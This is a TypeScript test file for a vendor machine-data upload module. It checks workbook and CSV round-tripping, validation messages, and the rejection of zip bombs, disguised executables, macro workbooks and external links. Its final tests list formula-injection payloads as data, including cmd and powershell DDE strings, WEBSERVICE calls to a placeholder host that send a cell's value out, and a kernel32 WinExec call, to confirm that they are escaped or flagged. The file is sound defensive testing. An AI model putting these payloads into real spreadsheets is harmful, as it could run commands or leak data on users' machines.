import { readFileSync } from "node:fs";
import path from "node:path";
import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { parseAnalysisInput } from "@/modules/calc";
import type { MachineInput } from "@/modules/calc/schema";
import {
  MARKER_SHEET,
  buildMachineCsv,
  buildRequestWorkbook,
  machineFieldRow,
  readMachineDataUpload,
  rotorFieldRow,
  type WorkbookRequest,
} from "@/modules/vendor-data";
import { fakeExecutable, makeZip, truncatedZip, zipBomb } from "./zip-fixtures";
import { outsideReachOfFormula } from "@/modules/vendor-data/formula-guard";

function exampleMachines(file: string): MachineInput[] {
  const parsed = parseAnalysisInput(JSON.parse(readFileSync(path.join(process.cwd(), "examples", file), "utf8")));
  if (!parsed.ok) throw new Error("example invalid");
  return parsed.input.machines;
}

const pumpTrain = exampleMachines("raw-water-pump-train.json");
const blower = exampleMachines("aeration-blower.json");

function request(machines: MachineInput[], prefill = true): WorkbookRequest {
  return {
    requestId: "7d1f3c2a-0000-4000-8000-000000000001",
    projectCode: "TST-1",
    projectName: "Test works",
    foundationTag: "T-101",
    machineTrain: "Test train",
    companyName: "Test Pumps",
    dueOn: "2026-09-30",
    message: "",
    machines: machines.map((m) => ({ name: m.name, values: prefill ? m : null })),
  };
}

const expectFor = (machines: MachineInput[]) => ({ requestId: "7d1f3c2a-0000-4000-8000-000000000001", machineCount: machines.length });

async function edit(bytes: Buffer, change: (wb: ExcelJS.Workbook) => void): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as ExcelJS.Buffer);
  change(wb);
  return Buffer.from(await wb.xlsx.writeBuffer());
}

describe("machine data workbook", () => {
  it("reads back exactly the machines it was prefilled with (pump train and blower with an outline box)", async () => {
    for (const machines of [pumpTrain, blower]) {
      const bytes = await buildRequestWorkbook(request(machines));
      const read = await readMachineDataUpload(bytes, expectFor(machines));
      expect(read).toMatchObject({ ok: true, source: "workbook" });
      if (read.ok) expect(read.machines).toEqual(machines);
    }
  });

  it("has an instructions sheet, one sheet per machine, lists for grade and axis, and a very hidden marker", async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await buildRequestWorkbook(request(pumpTrain))) as unknown as ExcelJS.Buffer);
    expect(wb.worksheets.map((w) => w.name)).toEqual(["Read me", "Machine 1", "Machine 2", MARKER_SHEET]);
    expect(wb.getWorksheet(MARKER_SHEET)?.state).toBe("veryHidden");
    const ws = wb.getWorksheet("Machine 1");
    expect(ws?.getCell(`B${machineFieldRow("mass")}`).value).toBe("kg");
    expect(ws?.getCell(`C${rotorFieldRow("axis")}`).dataValidation).toMatchObject({ type: "list", formulae: ['"x,z"'] });
    expect(ws?.getCell(`C${rotorFieldRow("balanceGrade")}`).dataValidation).toMatchObject({ type: "list" });
  });

  it("names the sheet and cell of text in a number cell and of a negative mass, and stores nothing of either", async () => {
    const bytes = await edit(await buildRequestWorkbook(request(pumpTrain)), (wb) => {
      const ws = wb.getWorksheet("Machine 2");
      if (!ws) throw new Error("no sheet");
      ws.getCell(`C${machineFieldRow("mass")}`).value = "about fourteen tonnes";
      ws.getCell(`C${rotorFieldRow("mass")}`).value = -1100;
    });
    const read = await readMachineDataUpload(bytes, expectFor(pumpTrain));
    expect(read.ok).toBe(false);
    if (read.ok) return;
    expect(read.problems).toEqual([
      { sheet: "Machine 2", cell: `C${machineFieldRow("mass")}`, message: expect.stringMatching(/expected a number in kg, found the text "about fourteen tonnes"/) },
      { sheet: "Machine 2", cell: `C${rotorFieldRow("mass")}`, message: expect.stringMatching(/Rotor mass.*must be greater than 0/) },
    ]);
  });

  it("reads a formula cell by its saved value and refuses one without a value", async () => {
    const base = await buildRequestWorkbook(request(pumpTrain));
    const withResult = await edit(base, (wb) => {
      wb.getWorksheet("Machine 1")!.getCell(`C${machineFieldRow("mass")}`).value = { formula: "9000+500", result: 9500 };
    });
    const ok = await readMachineDataUpload(withResult, expectFor(pumpTrain));
    expect(ok.ok && ok.machines[0]?.mass).toBe(9500);
    const noResult = await edit(base, (wb) => {
      wb.getWorksheet("Machine 1")!.getCell(`C${machineFieldRow("mass")}`).value = { formula: "9000+500" } as ExcelJS.CellFormulaValue;
    });
    const bad = await readMachineDataUpload(noResult, expectFor(pumpTrain));
    expect(!bad.ok && bad.problems[0]).toMatchObject({ sheet: "Machine 1", cell: `C${machineFieldRow("mass")}`, message: expect.stringMatching(/no saved value/) });
  });

  it("reports the contract's cross-field rules at a cell: grade and force both given, rotors heavier than the machine", async () => {
    const bytes = await edit(await buildRequestWorkbook(request(pumpTrain)), (wb) => {
      const ws = wb.getWorksheet("Machine 1")!;
      ws.getCell(`C${rotorFieldRow("unbalanceForce")}`).value = 1200;
      ws.getCell(`C${machineFieldRow("mass")}`).value = 2000;
    });
    const read = await readMachineDataUpload(bytes, expectFor(pumpTrain));
    expect(read.ok).toBe(false);
    if (read.ok) return;
    expect(read.problems.map((p) => `${p.sheet}!${p.cell}`)).toEqual([`Machine 1!C${machineFieldRow("mass")}`, `Machine 1!C${rotorFieldRow("balanceGrade")}`]);
    expect(read.problems[1]?.message).toMatch(/the balance grade and the unbalance force/);
  });

  it("refuses a workbook without a machine sheet, one made for another request, and a foreign workbook", async () => {
    const base = await buildRequestWorkbook(request(pumpTrain));
    const missing = await edit(base, (wb) => wb.removeWorksheet(wb.getWorksheet("Machine 2")!.id));
    const r1 = await readMachineDataUpload(missing, expectFor(pumpTrain));
    expect(!r1.ok && r1.problems).toEqual([{ sheet: "Machine 2", cell: null, message: expect.stringMatching(/missing/) }]);
    const other = await readMachineDataUpload(base, { ...expectFor(pumpTrain), requestId: "00000000-0000-4000-8000-000000000000" });
    expect(!other.ok && other.problems[0]?.message).toMatch(/another data request/);
    const foreign = new ExcelJS.Workbook();
    foreign.addWorksheet("Sheet1").getCell("A1").value = 1;
    const r3 = await readMachineDataUpload(Buffer.from(await foreign.xlsx.writeBuffer()), expectFor(pumpTrain));
    expect(!r3.ok && r3.problems[0]?.message).toMatch(/format marker is missing/);
  });

  it("refuses by content: an executable named .xlsx, a zip bomb (declared or lying), a damaged zip, a macro workbook", async () => {
    const exe = await readMachineDataUpload(fakeExecutable(), expectFor(pumpTrain));
    expect(!exe.ok && exe.reason).toBe("wrong_type");
    expect(!exe.ok && exe.problems[0]?.message).toMatch(/Windows executable/);
    const declared = await readMachineDataUpload(zipBomb(), expectFor(pumpTrain));
    expect(!declared.ok && declared.problems[0]?.message).toMatch(/refused unread/);
    const ratio = await readMachineDataUpload(zipBomb(1024 * 1024), expectFor(pumpTrain));
    expect(!ratio.ok && ratio.problems[0]?.message).toMatch(/zip bomb/);
    const lying = await readMachineDataUpload(zipBomb(64 * 1024 * 1024, true), expectFor(pumpTrain));
    expect(!lying.ok && lying.problems[0]?.message).toMatch(/damaged or not what it declares/);
    const damaged = await readMachineDataUpload(truncatedZip(await buildRequestWorkbook(request(pumpTrain))), expectFor(pumpTrain));
    expect(!damaged.ok && damaged.problems[0]?.message).toMatch(/zip structure is damaged|damaged/);
    const types = Buffer.from('<Types><Default Extension="xml" ContentType="application/xml"/></Types>');
    const macro = makeZip([
      { name: "[Content_Types].xml", data: types },
      { name: "xl/workbook.xml", data: Buffer.from("<workbook/>") },
      { name: "xl/vbaProject.bin", data: Buffer.from("not really VBA") },
    ]);
    const m = await readMachineDataUpload(macro, expectFor(pumpTrain));
    expect(!m.ok && m.problems[0]?.message).toMatch(/macros/);
    const linked = makeZip([
      { name: "[Content_Types].xml", data: types },
      { name: "xl/externalLinks/externalLink1.xml", data: Buffer.from("<externalLink/>") },
    ]);
    const l = await readMachineDataUpload(linked, expectFor(pumpTrain));
    expect(!l.ok && l.problems[0]?.message).toMatch(/links to other workbooks/);
  });
});

describe("machine data CSV", () => {
  it("reads back the machines of its template", async () => {
    const csv = buildMachineCsv(pumpTrain.map((m) => ({ name: m.name, values: m })));
    const read = await readMachineDataUpload(Buffer.from(csv), expectFor(pumpTrain));
    expect(read).toMatchObject({ ok: true, source: "csv" });
    if (read.ok) expect(read.machines).toEqual(pumpTrain);
  });

  it("names the CSV cell of a bad value", async () => {
    const csv = buildMachineCsv(blower.map((m) => ({ name: m.name, values: m }))).replace(",3570,", ",fast,");
    const read = await readMachineDataUpload(Buffer.from(csv), expectFor(blower));
    expect(!read.ok && read.problems[0]).toMatchObject({ sheet: "CSV", cell: "N2", message: expect.stringMatching(/Rated speed: expected a number in rpm/) });
  });
});

describe("spreadsheet text cannot run", () => {
  it("the CSV template escapes vendor text a spreadsheet would run, keeps negative numbers, and reads the text back unchanged", async () => {
    const hostile = ["=cmd|' /C calc'!A0", "+HYPERLINK(\"http://x.invalid\")", "-2+3", "@SUM(A1)", "\tTab-led", "\rCR-led"];
    const machines = pumpTrain.map((m, i) => ({ ...m, name: hostile[i % hostile.length]!, rotors: m.rotors.map((r, k) => ({ ...r, name: hostile[(i + k + 1) % hostile.length]! })) }));
    const csv = buildMachineCsv(machines.map((m) => ({ name: m.name, values: m })));
    const fields = csv.split(/\r\n/).slice(1).filter(Boolean).flatMap((line) => line.split(","));
    for (const f of fields) expect(f.replace(/^"/, ""), f).not.toMatch(/^[=+@\t\r]/);
    // A negative coordinate is written as a number (unquoted, unescaped).
    expect(fields.some((f) => /^-\d/.test(f))).toBe(pumpTrain.some((m) => m.cg.some((c) => c < 0) || m.rotors.some((r) => r.bearings.flat().some((c) => c < 0))));
    expect(csv).toContain("'=cmd|' /C calc'!A0");
    const read = await readMachineDataUpload(Buffer.from(csv), expectFor(pumpTrain));
    expect(read.ok && read.machines.map((m) => [m.name, ...m.rotors.map((r) => r.name)])).toEqual(machines.map((m) => [m.name.trim(), ...m.rotors.map((r) => r.name.trim())]));
  });

  it("names formulas that reach outside the file and lets formulas within it pass", () => {
    const outside = [
      "cmd|' /C calc'!A0",
      "=cmd|'/c powershell'!A1",
      "WEBSERVICE(\"http://x.invalid/?\"&A1)",
      "_xlfn.WEBSERVICE(\"http://x.invalid\")",
      "_xlfn.FILTERXML(B1,\"//a\")",
      "HYPERLINK(\"http://x.invalid\",\"open\")",
      "'[other.xlsx]Sheet1'!A1",
      "[1]Sheet1!A1",
      "'C:\\data\\[x.xlsx]Sheet1'!B2",
      "SUM('https://x.invalid/[book.xlsx]S'!A1:A3)",
      "[1]!Rate",
      "RTD(\"prog.id\",,\"x\")",
      "CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)",
      "REGISTER.ID(\"x\",\"y\")",
      "IMPORTDATA(\"http://x.invalid/a.csv\")",
      "IMPORTXML(\"http://x.invalid\",\"//a\")",
      "INDIRECT(\"'[x.xlsx]S'!A1\")",
      "INDIRECT(A1)",
      "1+ hyperlink (\"http://x\")",
    ];
    for (const f of outside) expect(outsideReachOfFormula(f), f).not.toBeNull();
    const inside = ["2.1+0.15", "SUM(A1:A3)*2", "'Machine 1'!C5*1000", "Sheet1:Sheet3!A1", "INDIRECT(\"C5\")", "IF(A1>0,\"call me | later\",0)", "Table1[Mass]*2", "\"HYPERLINK(\"", "PI()*2"];
    for (const f of inside) expect(outsideReachOfFormula(f), f).toBeNull();
  });
});
